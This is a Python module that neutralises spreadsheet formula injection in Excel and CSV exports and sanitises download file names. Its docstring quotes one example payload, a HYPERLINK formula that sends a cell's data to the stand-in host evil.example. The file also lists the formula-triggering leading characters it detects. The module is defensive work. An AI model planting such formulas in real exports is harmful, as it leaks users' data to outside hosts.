"""Exports are data, never formulas: the one place Excel and CSV files get their cells.

A name typed by a liaison (a station renamed ``=HYPERLINK("http://evil.example/?d="&A3,"…")``)
must reach the NPC office's spreadsheet as that text, not as a formula Excel or WPS
runs. Spreadsheets take a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and some first strip a leading tab or carriage return (OWASP, "CSV Injection").
We also take the full-width ``＝＋－＠`` that a Chinese input method produces, in case
a spreadsheet in a Chinese locale converts them to the ASCII signs (cheap, and harmless
for the rare name that starts with one).

- Excel: build the workbook with openpyxl as usual, then serialise it with
  :func:`xlsx_file`, which turns every such text cell into a plain string cell
  (``data_type "s"``; openpyxl itself makes any text starting with ``=`` a formula) and
  gives it the quotePrefix style, so Excel and WPS keep it text even when someone edits
  the cell. The stored value stays the original text.
- CSV: pass each row through :func:`csv_row`, which puts an apostrophe before such text.
- A download name made from names goes through :func:`file_name` (a line break in a
  header is refused by the server; a slash would be a folder).

Only text is touched: numbers (negative ones too), dates and booleans stay what they are.
No export writes a formula on purpose; one that wanted to would have to say so here.
"""
from __future__ import annotations

import re
from collections.abc import Iterable
from io import BytesIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NOT_IN_FILE_NAMES = re.compile(r'[\x00-\x1f\x7f/\\:*?"<>|]')


def looks_like_formula(value) -> bool:
    """Whether a spreadsheet would evaluate this value if written as it is."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(workbook) -> None:
    """Make every cell of an openpyxl workbook whose text looks like a formula a text cell."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if looks_like_formula(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True


def xlsx_file(workbook) -> BytesIO:
    """The workbook as an .xlsx file (rewound), after :func:`neutralise`."""
    neutralise(workbook)
    out = BytesIO()
    workbook.save(out)
    out.seek(0)
    return out


def csv_value(value):
    """One CSV field: text that looks like a formula gets a leading apostrophe."""
    return "'" + value if looks_like_formula(value) else value


def csv_row(values: Iterable) -> list:
    """A row for ``csv.writer(...).writerow``, every field through :func:`csv_value`."""
    return [csv_value(v) for v in values]


def file_name(name: str) -> str:
    """A download file name: control characters and ``/\\:*?"<>|`` each become ``_``."""
    return NOT_IN_FILE_NAMES.sub("_", name)
